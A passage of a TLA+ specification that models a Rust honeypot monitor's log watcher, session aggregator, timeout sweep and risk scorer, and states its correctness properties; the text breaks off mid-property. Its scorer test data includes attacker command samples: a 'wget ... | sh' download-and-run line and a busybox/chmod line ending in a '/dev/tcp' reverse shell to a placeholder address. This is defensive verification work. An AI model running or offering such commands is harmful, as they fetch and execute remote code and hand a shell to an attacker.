(***************************************************************************)
\* The clock advances in steps of just over half the timeout: one step is
\* within the timeout, two are beyond it.
TimeStep == session_timeout \div 2 + 1

\* The entries the watcher may parse next: the n-th gets id n (a fresh UUID)
\* and a timestamp ts.
EntryTemplates(n, ts) ==
    {LogEntry(n, ts, k, Some("s1"), None, None, EmptyMap) : k \in {"Connect", "Disconnect"}}
    \cup {LogEntry(n, ts, "LoginSuccess", Some("s1"), Some("root"), None, EmptyMap),
          LogEntry(n, ts, "LoginFailed", Some("s1"), Some("admin"), None, EmptyMap),
          LogEntry(n, ts, "Command", Some("s1"), None, Some("ls"), EmptyMap),
          LogEntry(n, ts, "Command", Some("s1"), None, Some("WGET http://x/y.sh | sh"),
                   [k \in {"success"} |-> JBool(FALSE)]),
          LogEntry(n, ts, "Command", Some("s1"), None, None, EmptyMap),
          LogEntry(n, ts, "Connect", Some("s2"), None, None, EmptyMap),
          LogEntry(n, ts, "Unknown", None, None, None, EmptyMap)}

Init ==
    /\ \E ms \in 1..MaxCap : store = StoreNew(MaxCap, ms)
    /\ StoreHistIdle
    /\ PipeIdle
    /\ ExtIdle

\* Utc::now() moves on.
Advance ==
    /\ ticks < MaxTicks
    /\ now' = now + TimeStep
    /\ ticks' = ticks + 1
    /\ UNCHANGED <<store, storeHist, n_entries, subscribed, rx, aggVars, sweepVars, pipeHist>>
    /\ UNCHANGED extVars

\* broadcast::Sender::send: the message is queued for every receiver that
\* exists at the time of the send; with no receiver it is dropped (the Err is
\* discarded by `let _ =`).
Broadcast(queue, isSubscribed, msg) == IF isSubscribed THEN Append(queue, msg) ELSE queue

\* app.rs AppEvent: the two messages the tasks act on.
NewLogEntry(entry) == [event |-> "NewLogEntry", entry |-> entry]

Quit == [event |-> "Quit"]

WatcherPublish ==
    /\ n_entries < MaxEvents
    /\ \E entry \in EntryTemplates(n_entries, now) :
          /\ store' = add_log_entry(store, entry)
          /\ rx' = Broadcast(rx, subscribed, entry)
          /\ published' = IF IsSome(entry.session)
                          THEN published \cup {entry.id} ELSE published
    /\ n_entries' = n_entries + 1
    /\ UNCHANGED <<storeHist, clock, subscribed, aggVars, sweepVars,
                   hist, swept, appended, evicted>>
    /\ UNCHANGED extVars

\* SessionManager::start (lines 48-97), called by App::connect after the
\* watchers were spawned: the listener task subscribes.
ManagerStart ==
    /\ ~subscribed
    /\ subscribed' = TRUE
    /\ UNCHANGED <<store, storeHist, clock, n_entries, rx, aggVars, sweepVars, pipeHist>>
    /\ UNCHANGED extVars

\* rx.recv() and the first block of process_log_entry (lines 118-127): an
\* entry without a connection id is dropped; otherwise the session is cloned
\* under the read lock.
AggRecv ==
    /\ subscribed
    /\ agg_pc = "recv"
    /\ rx # <<>>
    /\ rx' = Tail(rx)
    /\ IF IsSome(Head(rx).session)
       THEN /\ agg_pc' = "write"
            /\ agg_entry' = Some(Head(rx))
            /\ agg_read' = get_session(store, Head(rx).session[1])
       ELSE UNCHANGED <<agg_pc, agg_entry, agg_read>>
    /\ UNCHANGED <<store, storeHist, clock, n_entries, subscribed, agg_session,
                   sweepVars, pipeHist>>
    /\ UNCHANGED extVars

\* The store after the write block of process_log_entry (lines 142-149).
AggWriteBack(st, session) ==
    IF IsSome(get_session(st, session.id))
    THEN update_session(st, session)
    ELSE add_session(st, session)

\* Lines 129-149: update or create, then write back under the write lock.
AggWrite ==
    /\ agg_pc = "write"
    /\ LET entry == agg_entry[1]
           session == ProcessedSession(agg_read, entry)
           st == AggWriteBack(store, session)
           gone == (DOMAIN store.sessions) \ (DOMAIN st.sessions)
       IN  /\ store' = st
           /\ agg_session' = Some(session)
           /\ hist' = Append(hist, entry)
           /\ evicted' = evicted \cup gone
           /\ swept' = swept \ gone
           /\ appended' = (IF IsSome(agg_read) /\ entry.event_type = "Command"
                              /\ IsSome(entry.command)
                           THEN appended \cup {session.id} ELSE appended) \ gone
    /\ agg_pc' = "send"
    /\ UNCHANGED <<storeHist, clock, n_entries, subscribed, rx, agg_entry, agg_read,
                   sweepVars, published>>
    /\ UNCHANGED extVars

\* Line 152: event_tx.send(SessionUpdate(session)).  The listener's own
\* receiver gets the message too and discards it (`_ => {}`, line 91), so it
\* is not queued in rx.
AggSend ==
    /\ agg_pc = "send"
    /\ agg_pc' = "recv"
    /\ agg_entry' = None
    /\ agg_read' = None
    /\ agg_session' = None
    /\ UNCHANGED <<store, storeHist, clock, n_entries, subscribed, rx, sweepVars, pipeHist>>
    /\ UNCHANGED extVars

\* The closed copies check_session_timeouts collects under the read lock at
\* time t (lines 334-353).
TimedOutSessions(st, t) ==
    LET expired(s) == u64_gt(as_u64(t - s.start_time), session_timeout)
        exp == SelectSeq(get_active_sessions(st), expired)
    IN  [i \in 1..Len(exp) |->
            [exp[i] EXCEPT !.end_time = Some(t),
                           !.duration = Some(as_u64(t - exp[i].start_time))]]

\* interval.tick() and the read block.  The interval task is spawned by
\* start() together with the listener; no session exists before that.  With
\* nothing collected the write block is empty and the task is back at its
\* tick with no effect.
SweepRead ==
    /\ subscribed
    /\ sweep_pc = "tick"
    /\ sessions_to_update' = TimedOutSessions(store, now)
    /\ sweep_pc' = IF TimedOutSessions(store, now) = <<>> THEN "tick" ELSE "write"
    /\ UNCHANGED <<store, storeHist, clock, n_entries, subscribed, rx, aggVars, pipeHist>>
    /\ UNCHANGED extVars

\* The store after the write block (lines 356-367): update_session of every
\* collected copy, an Err being logged and skipped.
RECURSIVE SweepWriteBack(_, _)
SweepWriteBack(st, updates) ==
    IF updates = <<>> THEN st
    ELSE SweepWriteBack(update_session(st, Head(updates)), Tail(updates))

SweepWrite ==
    /\ sweep_pc = "write"
    /\ store' = SweepWriteBack(store, sessions_to_update)
    /\ swept' = swept \cup {sessions_to_update[i].id : i \in
                    {j \in 1..Len(sessions_to_update) :
                        update_session_ok(store, sessions_to_update[j])}}
    /\ sweep_pc' = "tick"
    /\ sessions_to_update' = <<>>
    /\ UNCHANGED <<storeHist, clock, n_entries, subscribed, rx, aggVars,
                   hist, published, appended, evicted>>
    /\ UNCHANGED extVars

Next ==
    \/ Advance
    \/ WatcherPublish
    \/ ManagerStart
    \/ AggRecv
    \/ AggWrite
    \/ AggSend
    \/ SweepRead
    \/ SweepWrite

Spec == Init /\ [][Next]_vars

(***************************************************************************)
(* C1.  Between any two Store calls the number of resident log entries is  *)
(* at most max_logs and the number of resident sessions is at most         *)
(* max_sessions, for every ceiling (0 included) and also after add_session *)
(* of an id that is already resident.                                      *)
(***************************************************************************)
C1_StoreSizeBounded ==
    /\ Cardinality(DOMAIN store.log_entries) <= store.max_logs
    /\ Cardinality(DOMAIN store.sessions) <= store.max_sessions

\* A full session table has just taken an add_session of a resident id, and
\* a full log table has taken one more entry.
C1_Witness ==
    /\ store.max_sessions >= 1
    /\ Cardinality(DOMAIN store.sessions) = store.max_sessions
    /\ ~NoDup(ins_sessions)
    /\ ins_sessions[Len(ins_sessions)] \in DOMAIN store.sessions
    /\ Len(ins_logs) > store.max_logs

(***************************************************************************)
(* C2.  FIFO eviction by arrival: after inserts of distinct ids into a     *)
(* store capped at N, the resident records are exactly the last N          *)
(* inserted; in particular after N + 1 inserts the first-inserted record   *)
(* is the only one absent and the other N are returned by get-by-id, and   *)
(* update_session calls in between change nothing of this.                 *)
(***************************************************************************)
LastN(s, n) == {s[i] : i \in {j \in 1..Len(s) : j > Len(s) - n}}

C2_FifoEviction ==
    /\ NoDup(ins_sessions) =>
          /\ DOMAIN store.sessions = LastN(ins_sessions, store.max_sessions)
          /\ Len(ins_sessions) = store.max_sessions + 1 =>
                /\ get_session(store, ins_sessions[1]) = None
                /\ \A i \in 2..Len(ins_sessions) :
                      IsSome(get_session(store, ins_sessions[i]))
    /\ DOMAIN store.log_entries = LastN(ins_logs, store.max_logs)
    /\ Len(ins_logs) = store.max_logs + 1 =>
          /\ get_log_entry(store, ins_logs[1]) = None
          /\ \A i \in 2..Len(ins_logs) : IsSome(get_log_entry(store, ins_logs[i]))

\* N + 1 distinct sessions were inserted into a store capped at N >= 2, the
\* first-inserted one was updated before the last insert evicted it, and a
\* later-inserted one is resident.
C2_Witness ==
    /\ store.max_sessions >= 2
    /\ NoDup(ins_sessions)
    /\ Len(ins_sessions) = store.max_sessions + 1
    /\ ins_sessions[1] \in upd_sessions
    /\ ins_sessions[1] \notin DOMAIN store.sessions
    /\ ins_sessions[2] \in DOMAIN store.sessions

(***************************************************************************)
(* History of the aggregator, per connection id.                           *)
(***************************************************************************)
PipeIds == {"s1", "s2"}

\* The entries for connection id `id` the aggregator has processed, in order.
HistOf(id) ==
    LET mine(e) == e.session = Some(id)
    IN  SelectSeq(hist, mine)

Resident(id) == id \in DOMAIN store.sessions

(***************************************************************************)
(* C3.  Sticky authentication: once the aggregator has processed, for one  *)
(* connection id whose session stayed resident, a LoginSuccess of "root"   *)
(* and later a LoginFailed of "admin", the stored session's user record    *)
(* has username "root" and login_success = TRUE, whether or not another    *)
(* event for that id came before the LoginSuccess.                         *)
(***************************************************************************)
C3_StickyAuth ==
    \A id \in PipeIds :
        LET h == HistOf(id)
        IN  (/\ id \notin evicted
             /\ \E i, j \in 1..Len(h) :
                    /\ i < j
                    /\ h[i].event_type = "LoginSuccess" /\ h[i].username = Some("root")
                    /\ h[j].event_type = "LoginFailed" /\ h[j].username = Some("admin"))
            => /\ Resident(id)
               /\ IsSome(store.sessions[id].user)
               /\ store.sessions[id].user[1].username = "root"
               /\ store.sessions[id].user[1].login_success

(***************************************************************************)
(* C4.  End time is never cleared: no step of any interleaving of the      *)
(* aggregator with the timeout sweep takes a resident session whose        *)
(* end_time is set to a state where it is resident with end_time unset.    *)
(***************************************************************************)
C4_EndTimeNeverCleared ==
    [][\A id \in (DOMAIN store.sessions) \cap (DOMAIN store'.sessions) :
            IsSome(store.sessions[id].end_time) => IsSome(store'.sessions[id].end_time)]_vars

(***************************************************************************)
(* C5.  No lost update: a resident session to which the aggregator has     *)
(* appended a Command and which the timeout sweep has closed holds both    *)
(* the command and the end time.                                           *)
(***************************************************************************)
C5_NoLostUpdate ==
    \A id \in swept \cap appended :
        Resident(id) =>
            /\ IsSome(store.sessions[id].end_time)
            /\ store.sessions[id].commands # <<>>

(***************************************************************************)
(* C6.  Timeout finalization: a session that a completed sweep found open  *)
(* and older than session_timeout has end_time set and is, for as long as  *)
(* it is resident, not among get_active_sessions.                          *)
(***************************************************************************)
C6_TimeoutFinalization ==
    \A id \in swept :
        Resident(id) =>
            \A i \in 1..Len(get_active_sessions(store)) :
                get_active_sessions(store)[i].id # id

(***************************************************************************)
(* C7.  Every forwarded event reaches its session: when the listener is    *)
(* subscribed, idle and has nothing left to receive, every entry with a    *)
(* connection id that the watcher published has been aggregated.           *)
(***************************************************************************)
C7_EveryPublishedEntryAggregated ==
    (subscribed /\ rx = <<>> /\ agg_pc = "recv")
        => published \subseteq {hist[i].id : i \in 1..Len(hist)}

(***************************************************************************)
(* C8.  Risk is recomputed on every mutation: the session process_log_entry*)
(* has written and is about to publish carries the scorer's score of its   *)
(* own state.                                                              *)
(***************************************************************************)
C8_RiskRecomputed ==
    agg_pc = "send" =>
        agg_session[1].malicious_score = analyze_session_risk(agg_session[1])

(***************************************************************************)
(* C9.  The session-creating event is applied: after the first event for a *)
(* connection id the stored session is the fresh session with that event's *)
(* update rule applied; for a LoginSuccess of "root" its user record has   *)
(* username "root", login_success = TRUE and its score is at least 10.     *)
(***************************************************************************)
C9_CreatingEventApplied ==
    \A id \in PipeIds :
        LET h == HistOf(id)
        IN  (Len(h) = 1 /\ Resident(id) /\ id \notin swept) =>
                /\ h[1].event_type = "LoginSuccess" =>
                      /\ IsSome(store.sessions[id].user)
                      /\ store.sessions[id].user[1].username = "root"
                      /\ store.sessions[id].user[1].login_success
                      /\ analyze_session_risk(store.sessions[id]) >= 10
                /\ store.sessions[id] =
                      update_session_from_log_entry(
                          create_session_from_log_entry(id, h[1]), h[1])

(***************************************************************************)
(* C10.  Command history is complete and ordered: while a session stays    *)
(* resident its command list is, in arrival order, the command texts of    *)
(* all Command events for its id that carry a text, and the success flag   *)
(* is TRUE where the source gives none.                                    *)
(***************************************************************************)
C10_CommandHistoryComplete ==
    \A id \in PipeIds :
        (Resident(id) /\ id \notin evicted) =>
            LET withText(e) == e.event_type = "Command" /\ IsSome(e.command)
                cmds == SelectSeq(HistOf(id), withText)
                got == store.sessions[id].commands
            IN  /\ Len(got) = Len(cmds)
                /\ \A i \in 1..Len(got) :
                      /\ got[i].command = cmds[i].command[1]
                      /\ "success" \notin DOMAIN cmds[i].fields => got[i].success

(***************************************************************************)
(* SpecScore: the two scorers applied to any session.  The session is put  *)
(* together by the aggregator's own update function from login, command    *)
(* and file-transfer entries; the build (overflow checks on or off), the   *)
(* source address and the threat-intel map are chosen at the start.        *)
(***************************************************************************)
ScoreTexts ==
    {"ls", "wget http://x/y.sh | sh",
     "busybox tftp; chmod 777 /tmp/m; bash >& /dev/tcp/1.2.3.4/4444"}

\* models.rs FileTransfer, the two flags the scorer reads.
FileTransfer(name, exe, malware) ==
    [filename |-> name, is_executable |-> exe, is_malware |-> malware]

ScoreFiles == {FileTransfer("a.txt", FALSE, FALSE), FileTransfer("m.bin", TRUE, TRUE)}

ScoreEntries ==
    {LogEntry(0, 0, "LoginSuccess", Some("s1"), Some("root"), None, EmptyMap),
     LogEntry(0, 0, "LoginFailed", Some("s1"), Some("admin"), None, EmptyMap)}

ScoreInit ==
    /\ store = StoreNew(MaxCap, MaxCap)
    /\ StoreHistIdle
    /\ PipeIdle
    /\ DetIdle
    /\ TailIdle
    /\ QuitIdle
    /\ Ext2Idle
    /\ sc_pc = "build"
    /\ \E ip \in {"0.0.0.0", "185.156.73.54"} :
          sc_session = [create_session_from_log_entry("s1",
                            LogEntry(0, 0, "Connect", Some("s1"), None, None, EmptyMap))
                        EXCEPT !.src_ip = ip]
    /\ overflow_checks \in BOOLEAN
    /\ threat_intel \in {EmptyMap, ExampleThreatIntel}
    /\ sc_basic = None
    /\ sc_enhanced = None

ScoreFrame ==
    UNCHANGED <<store, storeHist, pipeVars, detVars, tailVars, quitVars, ext2Vars,
                overflow_checks, threat_intel>>

ScoreLogin ==
    /\ sc_pc = "build"
    /\ \E entry \in ScoreEntries :
          sc_session' = update_session_from_log_entry(sc_session, entry)
    /\ UNCHANGED <<sc_pc, sc_basic, sc_enhanced>>
    /\ ScoreFrame

ScoreAddCommand ==
    /\ sc_pc = "build"
    /\ Len(sc_session.commands) < MaxScoreCmds
    /\ \E text \in ScoreTexts :
          sc_session' = update_session_from_log_entry(sc_session,
              LogEntry(0, 0, "Command", Some("s1"), None, Some(text), EmptyMap))
    /\ UNCHANGED <<sc_pc, sc_basic, sc_enhanced>>
    /\ ScoreFrame

ScoreAddFile ==
    /\ sc_pc = "build"
    /\ Len(sc_session.files) < MaxScoreFiles
    /\ \E transfer \in ScoreFiles :
          sc_session' = update_session_from_log_entry(sc_session,
              [LogEntry(0, 0, "FileDownload", Some("s1"), None, None, EmptyMap)
               EXCEPT !.file = Some(transfer)])
    /\ UNCHANGED <<sc_pc, sc_basic, sc_enhanced>>
    /\ ScoreFrame

\* Both scorers are called on the session.
ScoreEvaluate ==
    /\ sc_pc = "build"
    /\ sc_pc' = "done"
    /\ sc_basic' = analyze_session_risk_run(overflow_checks, sc_session)
    /\ sc_enhanced' = enhanced_analyze_session_risk(overflow_checks, threat_intel, sc_session)
    /\ UNCHANGED sc_session
    /\ ScoreFrame

ScoreNext ==
    \/ ScoreLogin
    \/ ScoreAddCommand
    \/ ScoreAddFile
    \/ ScoreEvaluate

SpecScore == ScoreInit /\ [][ScoreNext]_vars

(***************************************************************************)
(* C11.  For every session, with any number of commands and files, both    *)
(* scorers return normally (no panic) with a value in 0..100.              *)
(***************************************************************************)
C11_ScoreReturnsInRange ==
    sc_pc = "done" =>
        /\ IsSome(sc_basic) /\ sc_basic[1] \in 0..100
        /\ IsSome(sc_enhanced) /\ sc_enhanced[1] \in 0..100

(***************************************************************************)
(* C12.  The returned score is min(100, S), S being the exact sum of the   *)
(* contributions: a sum of 100 or more, however large, scores exactly 100  *)
(* and the 8-bit accumulator never wraps.                                  *)
(***************************************************************************)
C12_ScoreSaturates ==
    sc_pc = "done" =>
        /\ sc_basic = Some(Min(100, RiskSum(sc_session)))
        /\ sc_enhanced = Some(Min(100, EnhancedRiskSum(threat_intel, sc_session)))

(***************************************************************************)
(* C13.  A session with one successful login and the single command        *)
(* `wget http://x/y.sh | sh` scores at least 40, whatever else contributes *)
(* (transferred files, threat intelligence on the source address).         *)
(***************************************************************************)
WgetScenario(session) ==
    /\ IsSome(session.user)
    /\ session.user[1].login_success
    /\ Len(session.commands) = 1
    /\ session.commands[1].command = "wget http://x/y.sh | sh"

process_log_entry(st, entry) ==
    IF ~IsSome(entry.session) THEN st
    ELSE AggWriteBack(st, ProcessedSession(get_session(st, entry.session[1]), entry))

DetInit ==
    /\ \E ms \in 1..MaxCap :
          /\ store = StoreNew(MaxCap, ms)
          /\ det_store2 = StoreNew(MaxCap, ms)
    /\ StoreHistIdle
    /\ PipeIdle
    /\ ScoreIdle
    /\ TailIdle
    /\ QuitIdle
    /\ Ext2Idle
    /\ det_feed = <<>>
    /\ det_pos1 = 0
    /\ det_pos2 = 0

DetFrame ==
    UNCHANGED <<storeHist, n_entries, subscribed, rx, aggVars, sweepVars, pipeHist,
                scoreVars, tailVars, quitVars, ext2Vars>>

\* The next entry of the common sequence: the n-th has id n and timestamp n.
DetFeed ==
    /\ Len(det_feed) < MaxEvents
    /\ \E entry \in EntryTemplates(Len(det_feed), Len(det_feed)) :
          det_feed' = Append(det_feed, entry)
    /\ UNCHANGED <<store, det_store2, det_pos1, det_pos2, clock>>
    /\ DetFrame

DetAdvance ==
    /\ ticks < MaxTicks
    /\ now' = now + TimeStep
    /\ ticks' = ticks + 1
    /\ UNCHANGED <<store, detVars>>
    /\ DetFrame

DetProcess1 ==
    /\ det_pos1 < Len(det_feed)
    /\ store' = process_log_entry(store, det_feed[det_pos1 + 1])
    /\ det_pos1' = det_pos1 + 1
    /\ UNCHANGED <<det_feed, det_store2, det_pos2, clock>>
    /\ DetFrame

DetProcess2 ==
    /\ det_pos2 < Len(det_feed)
    /\ det_store2' = process_log_entry(det_store2, det_feed[det_pos2 + 1])
    /\ det_pos2' = det_pos2 + 1
    /\ UNCHANGED <<det_feed, store, det_pos1, clock>>
    /\ DetFrame

DetNext ==
    \/ DetFeed
    \/ DetAdvance
    \/ DetProcess1
    \/ DetProcess2

SpecDet == DetInit /\ [][DetNext]_vars

\* The Session state of a store: the sessions and their order (get_sessions).
SessionState(st) == <<st.sessions, st.session_ids>>

RecNames == <<"r1", "r2", "r3", "r4", "r5", "r6">>

Ord(r) == CHOOSE i \in 1..Len(RecNames) : RecNames[i] = r

IsRec(r) == \E i \in 1..Len(RecNames) : RecNames[i] = r

\* determine_start_time (lines 242-255): entries named "old" are older.
start_time == TimeStep

\* The lines the honeypot may write as its n-th line.
WrittenLines(n) ==
    {<<RecNames[n], "}", "NL">>, <<"old", "}", "NL">>, <<"x", "NL">>, <<"FF", "NL">>}

\* parse_log_entry on one line: Ok only for a complete JSON object; the
\* entry gets a fresh id n.
parse_log_entry(n, line) ==
    IF Len(line) = 2 /\ line[2] = "}"
    THEN Some(LogEntry(n, IF line[1] = "old" THEN 0 ELSE start_time, "Connect",
                       Some(line[1]), None, None, EmptyMap))
    ELSE None

\* Index of the first line end in bytes, 0 if there is none.
NlIndex(bytes) ==
    LET idx == {i \in 1..Len(bytes) : bytes[i] = "NL"}
    IN  IF idx = {} THEN 0 ELSE CHOOSE i \in idx : \A j \in idx : i <= j

\* BufReader::lines: the lines of bytes without their line ends; bytes after
\* the last line end form a last line.
RECURSIVE SplitLines(_)
SplitLines(bytes) ==
    IF bytes = <<>> THEN <<>>
    ELSE LET k == NlIndex(bytes)
         IN  IF k = 0 THEN <<bytes>>
             ELSE <<SubSeq(bytes, 1, k - 1)>> \o SplitLines(SubSeq(bytes, k + 1, Len(bytes)))

\* next_line() is an Err(InvalidData) on a line that is not UTF-8.
ValidUtf8(line) == \A i \in 1..Len(line) : line[i] # "FF"

\* The loop of process_file_changes (lines 196-215) over the lines read:
\* `next_line().await?` returns the error of a line that is not UTF-8 out of
\* the function; a line that does not parse is logged and skipped; an entry
\* is added to the store and sent.  out names the entries sent, in order.
RECURSIVE ProcessLines(_, _, _)
ProcessLines(lines, st, n) ==
    IF lines = <<>> THEN [store |-> st, n |-> n, out |-> <<>>, sent |-> <<>>, ok |-> TRUE]
    ELSE IF ~ValidUtf8(Head(lines))
    THEN [store |-> st, n |-> n, out |-> <<>>, sent |-> <<>>, ok |-> FALSE]
    ELSE LET parsed == parse_log_entry(n, Head(lines))
         IN  IF IsSome(parsed)
             THEN LET rest == ProcessLines(Tail(lines), add_log_entry(st, parsed[1]), n + 1)
                  IN  [rest EXCEPT !.out = <<parsed[1].session[1]>> \o @,
                                   !.sent = <<NewLogEntry(parsed[1])>> \o @]
             ELSE ProcessLines(Tail(lines), st, n)

\* process_file_changes (lines 168-222) on the file's bytes: the offset is
\* reset when the file shrank; when the file is larger than the offset, the
\* file is opened again and `file.take(new_size - offset)` is read from its
\* start (there is no seek); the offset is set only after the loop.
process_file_changes(bytes, position, st, n) ==
    LET new_size == Len(bytes)
        pos == IF new_size < position THEN 0 ELSE position
    IN  IF new_size > pos
        THEN LET data == SubSeq(bytes, 1, new_size - pos)
                 r == ProcessLines(SplitLines(data), st, n)
             IN  [position |-> IF r.ok THEN new_size ELSE pos,
                  store |-> r.store, n |-> r.n, out |-> r.out, sent |-> r.sent,
                  ok |-> r.ok, data |-> data]
        ELSE [position |-> pos, store |-> st, n |-> n, out |-> <<>>, sent |-> <<>>,
              ok |-> TRUE, data |-> <<>>]

TailInit ==
    /\ store = StoreNew(MaxCap, MaxCap)
    /\ StoreHistIdle
    /\ PipeIdle
    /\ ScoreIdle
    /\ DetIdle
    /\ TailIdle
    /\ QuitIdle
    /\ Ext2Idle

TailFrame ==
    UNCHANGED <<storeHist, clock, subscribed, aggVars, sweepVars, pipeHist,
                scoreVars, detVars, quitVars, ext2Vars>>

\* The honeypot writes one more line; the notify watcher, while it exists,
\* queues a Modify event.
FileAppend ==
    /\ n_lines < MaxLines
    /\ \E line \in WrittenLines(n_lines + 1) :
          /\ file' = file \o line
          /\ late' = IF w_start = "returned" /\ w_pc \in {"recv", "done"} /\ IsRec(line[1])
                     THEN late \cup {line[1]} ELSE late
          /\ handoff' = IF w_pc \in {"backlog", "init"} /\ IsRec(line[1])
                        THEN handoff \cup {line[1]} ELSE handoff
    /\ n_lines' = n_lines + 1
    /\ fs_events' = IF w_start = "watching" THEN fs_events + 1 ELSE fs_events
    /\ UNCHANGED <<store, rx, n_entries, truncated, w_start, w_pc, bl_pos, file_position,
                   bl_len, fwd, tail_run>>
    /\ TailFrame

\* The file is truncated (log rotation).
FileTruncate ==
    /\ ~truncated
    /\ file # <<>>
    /\ file' = <<>>
    /\ truncated' = TRUE
    /\ fs_events' = IF w_start = "watching" THEN fs_events + 1 ELSE fs_events
    /\ UNCHANGED <<store, rx, n_entries, n_lines, w_start, w_pc, bl_pos, file_position,
                   bl_len, fwd, tail_run, late, handoff>>
    /\ TailFrame

\* start_log_watcher up to tokio::spawn (lines 27-81): the watcher is
\* created and watches the directory, the task is spawned.
WatcherStart ==
    /\ w_start = "new"
    /\ w_start' = "watching"
    /\ w_pc' = "open"
    /\ UNCHANGED <<store, rx, n_entries, file, n_lines, truncated, fs_events, bl_pos,
                   file_position, bl_len, fwd, tail_run, late, handoff>>
    /\ TailFrame

\* start_log_watcher returns Ok(task) (line 83): its local `watcher` is
\* dropped, which stops the notifications and drops the channel's sender.
WatcherReturn ==
    /\ w_start = "watching"
    /\ w_start' = "returned"
    /\ UNCHANGED <<store, rx, n_entries, file, n_lines, truncated, fs_events, w_pc, bl_pos,
                   file_position, bl_len, fwd, tail_run, late, handoff>>
    /\ TailFrame

\* process_existing_logs opens the file (lines 98-100).
BacklogOpen ==
    /\ w_pc = "open"
    /\ w_pc' = "backlog"
    /\ bl_pos' = 0
    /\ bl_len' = Len(file)
    /\ UNCHANGED <<store, rx, n_entries, file, n_lines, truncated, w_start, fs_events,
                   file_position, fwd, tail_run, late, handoff>>
    /\ TailFrame

\* One round of the loop of process_existing_logs (lines 105-130): at the
\* end of the file the function returns; a line that is not UTF-8 returns
\* its error (logged at line 70); a line that does not parse or is older
\* than start_time is skipped; otherwise the entry is stored and sent.
BacklogLine ==
    /\ w_pc = "backlog"
    /\ LET rest == SubSeq(file, bl_pos + 1, Len(file))
           k == NlIndex(rest)
           line == IF k = 0 THEN rest ELSE SubSeq(rest, 1, k - 1)
           parsed == parse_log_entry(n_entries, line)
       IN  IF rest = <<>> \/ ~ValidUtf8(line)
           THEN /\ w_pc' = "init"
                /\ UNCHANGED <<store, rx, n_entries, bl_pos, fwd>>
           ELSE /\ bl_pos' = bl_pos + (IF k = 0 THEN Len(rest) ELSE k)
                /\ IF IsSome(parsed) /\ ~(parsed[1].timestamp < start_time)
                   THEN /\ store' = add_log_entry(store, parsed[1])
                        /\ rx' = Broadcast(rx, subscribed, NewLogEntry(parsed[1]))
                        /\ n_entries' = n_entries + 1
                        /\ fwd' = Append(fwd, parsed[1].session[1])
                   ELSE UNCHANGED <<store, rx, n_entries, fwd>>
                /\ UNCHANGED w_pc
    /\ UNCHANGED <<file, n_lines, truncated, w_start, fs_events, file_position,
                   bl_len, tail_run, late, handoff>>
    /\ TailFrame

\* process_file_events takes the file's size as its offset (line 145).
TailPosition ==
    /\ w_pc = "init"
    /\ w_pc' = "recv"
    /\ file_position' = Len(file)
    /\ UNCHANGED <<store, rx, n_entries, file, n_lines, truncated, w_start, fs_events,
                   bl_pos, bl_len, fwd, tail_run, late, handoff>>
    /\ TailFrame

\* file_event_rx.recv() yields a Modify event of the path and
\* process_file_changes runs (lines 147-163).
TailEvent ==
    /\ w_pc = "recv"
    /\ fs_events > 0
    /\ fs_events' = fs_events - 1
    /\ LET r == process_file_changes(file, file_position, store, n_entries)
       IN  /\ store' = r.store
           /\ rx' = IF subscribed THEN rx \o r.sent ELSE rx
           /\ n_entries' = r.n
           /\ file_position' = r.position
           /\ fwd' = fwd \o r.out
           /\ tail_run' = Some([position |-> file_position, new_size |-> Len(file),
                                content |-> file, data |-> r.data, out |-> r.out,
                                ok |-> r.ok, end_position |-> r.position])
    /\ UNCHANGED <<file, n_lines, truncated, w_start, w_pc, bl_pos, bl_len, late, handoff>>
    /\ TailFrame

\* recv() yields None once the sender is gone and the queue is empty: the
\* loop and the task end.
TailClosed ==
    /\ w_pc = "recv"
    /\ fs_events = 0
    /\ w_start = "returned"
    /\ w_pc' = "done"
    /\ UNCHANGED <<store, rx, n_entries, file, n_lines, truncated, w_start, fs_events,
                   bl_pos, file_position, bl_len, fwd, tail_run, late, handoff>>
    /\ TailFrame

TailNext ==
    \/ FileAppend
    \/ FileTruncate
    \/ WatcherStart
    \/ WatcherReturn
    \/ BacklogOpen
    \/ BacklogLine
    \/ TailPosition
    \/ TailEvent
    \/ TailClosed

SpecTail == TailInit /\ [][TailNext]_vars

\* The names of the lines of bytes that are valid entries, in order: what a
\* reader that skips every malformed line forwards.
RECURSIVE NamesOf(_)
NamesOf(lines) ==
    IF lines = <<>> THEN <<>>
    ELSE (IF ValidUtf8(Head(lines)) /\ IsSome(parse_log_entry(0, Head(lines)))
          THEN <<Head(lines)[1]>> ELSE <<>>) \o NamesOf(Tail(lines))

ParsedLines(bytes) == NamesOf(SplitLines(bytes))

(***************************************************************************)
(* C15.  On a Modify event with the file larger than the offset, the lines *)
(* parsed and forwarded are exactly the file content between the old       *)
(* offset and the new size, and the offset becomes the new size (stated    *)
(* for the runs whose read met no error).                                  *)
(***************************************************************************)
C15_TailReadsAppendedRange ==
    (tail_run # None /\ tail_run[1].ok /\ tail_run[1].new_size > tail_run[1].position) =>
        /\ tail_run[1].out =
              ParsedLines(SubSeq(tail_run[1].content, tail_run[1].position + 1,
                                 tail_run[1].new_size))
        /\ tail_run[1].end_position = tail_run[1].new_size

(***************************************************************************)
(* C16.  On a Modify event with the file smaller than the offset, the      *)
(* whole content of the new file is read and forwarded from its start and  *)
(* the offset ends equal to the new size.                                  *)
(***************************************************************************)
C16_TruncationRereadsAll ==
    (tail_run # None /\ tail_run[1].new_size < tail_run[1].position) =>
        /\ tail_run[1].out = ParsedLines(tail_run[1].content)
        /\ tail_run[1].end_position = tail_run[1].new_size

(***************************************************************************)
(* C17.  After start_log_watcher has returned and the backlog replay has   *)
(* finished the task keeps receiving Modify events: it does not end, and   *)
(* every valid line appended from then on gets stored and published.       *)
(***************************************************************************)
C17_TailingStaysLive ==
    w_pc = "done" => late \subseteq Range(fwd)

(***************************************************************************)
(* C18.  For a file that is only appended to, the entries are published in *)
(* file order across backlog replay and tailing: no line's entry is        *)
(* published after the entry of a later line (stated for the files all of  *)
(* whose lines are UTF-8).                                                 *)
(***************************************************************************)
C18_PublishedInFileOrder ==
    (~truncated /\ ValidUtf8(file)) =>
        \A i, j \in 1..Len(fwd) :
            (i < j /\ IsRec(fwd[i]) /\ IsRec(fwd[j])) => Ord(fwd[i]) <= Ord(fwd[j])

(***************************************************************************)
(* C19.  A malformed line never halts the watcher: once the backlog replay *)
(* is over every recent valid line of the file it opened has been stored   *)
(* and published, whatever lines precede it; a run of the tail handler has *)
(* forwarded every valid line of the bytes it read; and nothing is stored  *)
(* for a line that is not forwarded.                                       *)
(***************************************************************************)
C19_MalformedLineSkipped ==
    /\ (w_pc \in {"init", "recv", "done"} /\ ~truncated) =>
          \A r \in Range(ParsedLines(SubSeq(file, 1, bl_len))) :
